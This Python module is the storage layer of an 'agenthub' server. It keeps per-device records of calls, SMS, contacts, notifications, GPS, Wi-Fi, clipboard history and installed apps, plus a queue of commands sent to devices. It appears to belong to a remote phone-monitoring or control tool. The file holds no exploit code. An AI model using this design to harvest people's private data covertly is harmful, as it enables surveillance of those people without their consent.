"""Per-agent data: telemetry logs, snapshots, command queue and settings."""

from __future__ import annotations

import copy
import enum
from collections.abc import Iterable, Mapping
from typing import Any

from sqlalchemy import delete, func, select

from agenthub.models._base import json_timestamp
from agenthub.models.agent import PollConfig
from agenthub.models.commands import QueuedCommand
from agenthub.store.database import Database
from agenthub.store.tables import LogEntryRow, QueuedCommandRow, SnapshotRow


class AgentCollection(enum.StrEnum):
    """Named collections kept for each agent."""

    CALLS = "callData"
    SMS = "smsData"
    CONTACTS = "contacts"
    NOTIFICATIONS = "notificationLog"
    WIFI_NOW = "wifiNow"
    WIFI_LOG = "wifiLog"
    GPS = "gpsData"
    CLIPBOARD = "clipboardLog"
    APPS = "apps"
    PERMISSIONS = "enabledPermissions"
    CURRENT_FOLDER = "currentFolder"
    DOWNLOADS = "downloads"


#: Collections replaced wholesale on every update.
SNAPSHOT_COLLECTIONS: frozenset[AgentCollection] = frozenset(
    {
        AgentCollection.WIFI_NOW,
        AgentCollection.APPS,
        AgentCollection.PERMISSIONS,
        AgentCollection.CURRENT_FOLDER,
    }
)

_POLL_CONFIG = "pollConfig"


def _matches(doc: Mapping[str, Any], match: Mapping[str, Any] | None) -> bool:
    if match is None:
        return True
    return all(doc.get(key) == value for key, value in match.items())


class LogCollection:
    """Append-only log for one agent and collection, in insertion order.

    Entries may carry a key (the record hash, or any natural identity); keyed
    entries are unique per collection.
    """

    def __init__(self, db: Database, agent_id: str, name: AgentCollection) -> None:
        self._db = db
        self._agent_id = agent_id
        self.name = name

    def _where(self) -> tuple[Any, ...]:
        return (LogEntryRow.agent_id == self._agent_id, LogEntryRow.collection == self.name.value)

    def filter(self, match: Mapping[str, Any] | None = None) -> list[dict[str, Any]]:
        """Entries whose fields equal every item of *match*."""
        with self._db.transaction() as session:
            rows = session.scalars(select(LogEntryRow.data).where(*self._where()).order_by(LogEntryRow.seq)).all()
        return [copy.deepcopy(doc) for doc in rows if _matches(doc, match)]

    def value(self) -> list[dict[str, Any]]:
        return self.filter()

    def __len__(self) -> int:
        with self._db.transaction() as session:
            return session.scalar(select(func.count()).select_from(LogEntryRow).where(*self._where())) or 0

    def push(self, doc: Mapping[str, Any], *, key: str | None = None) -> None:
        with self._db.transaction() as session:
            session.add(
                LogEntryRow(agent_id=self._agent_id, collection=self.name.value, hash=key, data=dict(doc))
            )

    def push_new(self, docs: Iterable[Mapping[str, Any]]) -> int:
        """Insert the docs whose ``hash`` is not stored yet; returns how many were added."""
        added = 0
        with self._db.transaction() as session:
            known = set(session.scalars(select(LogEntryRow.hash).where(*self._where())).all())
            for doc in docs:
                key = doc.get("hash")
                if key is not None and key in known:
                    continue
                session.add(
                    LogEntryRow(agent_id=self._agent_id, collection=self.name.value, hash=key, data=dict(doc))
                )
                known.add(key)
                added += 1
        return added

    def upsert(self, key: str, doc: Mapping[str, Any], patch: Mapping[str, Any]) -> bool:
        """Merge *patch* into the entry stored under *key*, or insert *doc*.

        Returns ``True`` when *doc* was inserted.
        """
        with self._db.transaction() as session:
            row = session.scalars(select(LogEntryRow).where(*self._where(), LogEntryRow.hash == key)).first()
            if row is not None:
                row.data = {**row.data, **patch}
                return False
            session.add(LogEntryRow(agent_id=self._agent_id, collection=self.name.value, hash=key, data=dict(doc)))
            return True


class SnapshotCollection:
    """A value replaced wholesale, such as the latest app list."""

    def __init__(self, db: Database, agent_id: str, name: str, default: Any) -> None:
        self._db = db
        self._agent_id = agent_id
        self.name = name
        self._default = default

    def value(self) -> Any:
        with self._db.transaction() as session:
            row = session.get(SnapshotRow, (self._agent_id, self.name))
            stored = row.value if row is not None else self._default
        return copy.deepcopy(stored)

    def replace(self, value: Any) -> None:
        with self._db.transaction() as session:
            session.merge(SnapshotRow(agent_id=self._agent_id, name=self.name, value=value))


class CommandQueue:
    """Commands waiting for an offline agent, oldest first."""

    def __init__(self, db: Database, agent_id: str) -> None:
        self._db = db
        self._agent_id = agent_id

    def filter(self) -> list[dict[str, Any]]:
        with self._db.transaction() as session:
            rows = session.scalars(
                select(QueuedCommandRow)
                .where(QueuedCommandRow.agent_id == self._agent_id)
                .order_by(QueuedCommandRow.seq)
            ).all()
            return [
                {
                    "uid": row.uid,
                    "kind": row.kind,
                    "payload": copy.deepcopy(row.payload or {}),
                    "enqueuedAt": json_timestamp(row.enqueued_at),
                }
                for row in rows
            ]

    def __len__(self) -> int:
        with self._db.transaction() as session:
            count = session.scalar(
                select(func.count()).select_from(QueuedCommandRow).where(QueuedCommandRow.agent_id == self._agent_id)
            )
        return count or 0

    def push(self, entry: QueuedCommand) -> None:
        with self._db.transaction() as session:
            session.add(
                QueuedCommandRow(
                    agent_id=self._agent_id,
                    uid=entry.uid,
                    kind=entry.kind.value,
                    payload=dict(entry.payload),
                    enqueued_at=entry.enqueued_at,
                )
            )

    def remove(self, uid: str) -> bool:
        with self._db.transaction() as session:
            result = session.execute(
                delete(QueuedCommandRow).where(QueuedCommandRow.agent_id == self._agent_id, QueuedCommandRow.uid == uid)
            )
            return bool(result.rowcount)


class AgentData:
    """Typed accessors over everything stored for one agent."""

    def __init__(self, agent_id: str, db: Database) -> None:
        self.agent_id = agent_id
        self._db = db

    def collection(self, name: AgentCollection) -> LogCollection | SnapshotCollection:
        if name in SNAPSHOT_COLLECTIONS:
            return self.snapshot(name)
        return self.log(name)

    def log(self, name: AgentCollection) -> LogCollection:
        return LogCollection(self._db, self.agent_id, name)

    def snapshot(self, name: AgentCollection) -> SnapshotCollection:
        return SnapshotCollection(self._db, self.agent_id, name.value, [])

    @property
    def command_queue(self) -> CommandQueue:
        return CommandQueue(self._db, self.agent_id)

    @property
    def downloads(self) -> LogCollection:
        return self.log(AgentCollection.DOWNLOADS)

    def poll_config(self) -> PollConfig:
        stored = SnapshotCollection(self._db, self.agent_id, _POLL_CONFIG, {}).value()
        return PollConfig.model_validate(stored or {})

    def set_poll_config(self, config: PollConfig) -> None:
        SnapshotCollection(self._db, self.agent_id, _POLL_CONFIG, {}).replace(config.to_document())

